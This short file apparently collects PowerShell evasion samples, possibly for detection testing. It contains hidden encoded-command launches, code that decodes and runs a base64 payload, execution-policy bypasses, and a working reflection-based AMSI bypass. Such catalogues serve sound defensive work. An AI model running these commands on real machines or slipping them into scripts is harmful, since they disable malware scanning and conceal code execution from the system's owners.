# Encoded commands, decoded payloads, policy and AMSI bypasses.
powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=
pwsh -nop -ec SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=
Start-Process -FilePath cmd.exe -ArgumentList '/c powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA='

$blob = [Convert]::FromBase64String('SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=')
$decoded = [System.Text.Encoding]::Unicode.GetString($blob)
$block = [scriptblock]::Create($decoded)
& $block

Set-ExecutionPolicy -ExecutionPolicy Bypass -Scope Process -Force
Set-ExecutionPolicy Unrestricted -Force
powershell.exe -ExecutionPolicy Bypass -File .\install.ps1
Start-Process -FilePath powershell.exe -ArgumentList '-ep bypass -File C:\ProgramData\run.ps1'

$utils = [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')
$utils.GetField('amsiInitFailed', 'NonPublic,Static').SetValue($null, $true)
